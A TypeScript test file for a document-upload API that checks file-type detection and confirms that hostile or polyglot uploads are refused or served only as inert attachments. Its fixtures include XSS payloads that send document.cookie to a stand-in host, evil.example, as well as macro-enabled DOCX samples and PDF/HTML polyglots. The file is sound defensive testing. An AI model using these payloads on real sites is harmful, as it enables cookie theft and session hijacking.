import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { strToU8, zipSync } from 'fflate'
import type { LightMyRequestResponse } from 'fastify'
import { buildTestApp, json, type TestApp } from '../helpers/app.js'
import { assertProblem } from '../helpers/assertions.js'
import { backends } from '../helpers/backends.js'
import { docxWith, newCandidate, ole2With, SAMPLES, storedState, uploadMultipart, uploadRaw } from '../helpers/documents.js'

/**
 * SPEC B5 decides the type from the leading bytes alone. So a file that
 * starts with `%PDF-` is a PDF whatever else it holds, and the defence
 * against a polyglot is in the download: always an attachment, always
 * `nosniff`, always the detected type, so no browser renders it inline as
 * HTML. test/http/documents-errors.test.ts covers HTML, empty and truncated
 * bodies and a ZIP without word/document.xml; these are the other hostile shapes.
 */
const SCRIPT = '<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>'

const refused: Array<[string, Buffer]> = [
  ['SVG with a script', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)],
  ['JavaScript', Buffer.from('fetch("https://evil.example/"+document.cookie)')],
  ['%PDF- after a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), SAMPLES.pdf.bytes])],
  ['%PDF- after leading white space', Buffer.concat([Buffer.from('\n '), SAMPLES.pdf.bytes])],
  ['%PDF- in lower case', Buffer.from('%pdf-1.4\n' + SCRIPT)],
  ['HTML with a DOCX appended (a ZIP that does not start at byte 0)', Buffer.concat([Buffer.from(SCRIPT), SAMPLES.docx.bytes])],
  ['a ZIP with word/document.xml but no [Content_Types].xml', Buffer.from(zipSync({ 'word/document.xml': strToU8('<w:document/>') }))],
  [
    'an OpenDocument text (a ZIP of another kind)',
    Buffer.from(zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.text'), 'content.xml': strToU8('<x/>') })),
  ],
  ['the OLE2 signature cut one byte short', SAMPLES.doc.bytes.subarray(0, 7)],
  ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;' + SCRIPT, 'latin1')],
  ['a Windows executable', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(200)])],
  ['an ELF executable', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(200)])],
]

const MACRO_TYPES = strToU8(
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
)
const VBA = strToU8('\xd0\xcf\x11\xe0 VBA project')

/** Of a kind the signatures admit, but refused all the same, with the reason in the detail. */
const refusedWithReason: Array<[string, Buffer, RegExp]> = [
  ['a DOCX holding word/vbaProject.bin', docxWith({ 'word/vbaProject.bin': VBA }), /macros/],
  ['a DOCX holding a VBA project under another name and case', docxWith({ 'word/media/VBAPROJECT.BIN': VBA }), /macros/],
  ['a DOCX whose content types declare a macro-enabled document', docxWith({ '[Content_Types].xml': MACRO_TYPES }), /macros/],
  ['an OLE2 spreadsheet (no WordDocument stream)', ole2With({ '/Workbook': Buffer.alloc(5000, 1) }), /not a Word document/],
  [
    'an OLE2 file holding a Word document only inside a storage (a .msg with an attachment)',
    ole2With({
      '/__substg1.0_0037001F': Buffer.from('Subject', 'utf16le'),
      '/__attach_version1.0_#00000000/__substg1.0_3701000D/WordDocument': SAMPLES.doc.bytes,
    }),
    /not a Word document/,
  ],
  ['a truncated OLE2 header', SAMPLES.doc.bytes.subarray(0, 300), /not a Word document/],
]

/** Accepted, because SPEC says the leading bytes decide, but never served as anything a browser would run. */
const acceptedPolyglots: Array<[string, Buffer, string, string]> = [
  ['a PDF header in front of HTML, named .html, declared text/html', Buffer.from('%PDF-1.7\n' + SCRIPT), 'evil.html', 'text/html'],
  ['a real PDF with a script appended, named .svg', Buffer.concat([SAMPLES.pdf.bytes, Buffer.from(SCRIPT)]), 'evil.svg', 'image/svg+xml'],
  [
    'a DOCX that also holds an HTML page, named .htm',
    Buffer.from(
      zipSync({
        '[Content_Types].xml': strToU8('<Types/>'),
        'word/document.xml': strToU8('<w:document/>'),
        'index.html': strToU8(SCRIPT),
      }),
    ),
    'evil.htm',
    'text/html',
  ],
]

for (const backend of await backends()) {
  describe(`hostile and polyglot uploads [${backend.name}]`, () => {
    let t: TestApp
    let candidate: number
    before(async () => {
      t = await buildTestApp(backend)
      candidate = await newCandidate(t)
    })
    after(() => t.close())

    describe('415: anything that does not start with one of the three signatures', () => {
      for (const [what, bytes] of refused) {
        test(`${what}, named cv.pdf, raw and multipart, leaves nothing behind`, async () => {
          const before = await storedState(t)
          const raw = await uploadRaw(t, candidate, bytes, { contentType: 'application/pdf', disposition: 'attachment; filename="cv.pdf"' })
          assertProblem(raw, 415, 'unsupported_document_type')
          assertProblem(await uploadMultipart(t, candidate, bytes, 'cv.docx'), 415, 'unsupported_document_type')
          assert.deepEqual(await storedState(t), { ...before, scratch: 0 })
        })
      }
    })

    describe('415: a DOCX with macros, an OLE2 file that is not a Word document', () => {
      for (const [what, bytes, reason] of refusedWithReason) {
        test(`${what}, raw and multipart, says why and leaves nothing behind`, async () => {
          const before = await storedState(t)
          const raw = assertProblem(
            await uploadRaw(t, candidate, bytes, { disposition: 'attachment; filename="cv.docx"' }),
            415,
            'unsupported_document_type',
          )
          assert.match(raw.detail, reason)
          assertProblem(await uploadMultipart(t, candidate, bytes, 'cv.doc'), 415, 'unsupported_document_type')
          assert.deepEqual(await storedState(t), { ...before, scratch: 0 })
        })
      }
      test('the real DOC and DOCX samples are still accepted', async () => {
        for (const sample of [SAMPLES.doc, SAMPLES.docx]) {
          const res = await uploadRaw(t, candidate, sample.bytes)
          assert.equal(res.statusCode, 201, res.body)
          assert.equal(json(res).ContentType, sample.contentType)
        }
      })
    })

    describe('201, then only ever downloaded as an attachment of the detected type with nosniff', () => {
      /** The headers that keep a browser from rendering a download inline. */
      function assertInert(res: LightMyRequestResponse, contentType: string, what: string) {
        assert.equal(res.headers['x-content-type-options'], 'nosniff', `${what}: nosniff`)
        if (res.statusCode === 304) return
        assert.equal(res.headers['content-type'], contentType, `${what}: content type`)
        assert.match(String(res.headers['content-disposition']), /^attachment;/, `${what}: disposition`)
      }

      for (const [what, bytes, name, declared] of acceptedPolyglots) {
        test(what, async () => {
          const uploaded = await uploadRaw(t, candidate, bytes, { contentType: declared, disposition: `attachment; filename="${name}"` })
          assert.equal(uploaded.statusCode, 201, uploaded.body)
          const doc = json(uploaded)
          assert.ok(['application/pdf', SAMPLES.docx.contentType].includes(doc.ContentType), doc.ContentType)
          // The name ends in the detected type's extension, so saving it never yields an .html file.
          assert.match(doc.FileName, /\.(pdf|docx)$/)
          assert.ok(doc.FileName.startsWith(name))
          const url = `/v1/document/${doc.Id}`
          const full = await t.call('GET', url)
          assert.equal(full.statusCode, 200)
          assert.ok(full.rawPayload.equals(bytes))
          assertInert(full, doc.ContentType, 'GET')
          assertInert(await t.call('HEAD', url), doc.ContentType, 'HEAD')
          const part = await t.call('GET', url, undefined, undefined, { range: 'bytes=0-15' })
          assert.equal(part.statusCode, 206)
          assertInert(part, doc.ContentType, 'Range')
          const cached = await t.call('GET', url, undefined, undefined, { 'if-none-match': String(full.headers.etag) })
          assert.equal(cached.statusCode, 304)
          assertInert(cached, doc.ContentType, 'If-None-Match')
          // With the JSON content type the original clients send on every request.
          assertInert(
            await t.call('GET', url, undefined, undefined, { 'content-type': 'application/json', accept: 'text/html' }),
            doc.ContentType,
            'Accept: text/html',
          )
        })
      }
    })
  })
}
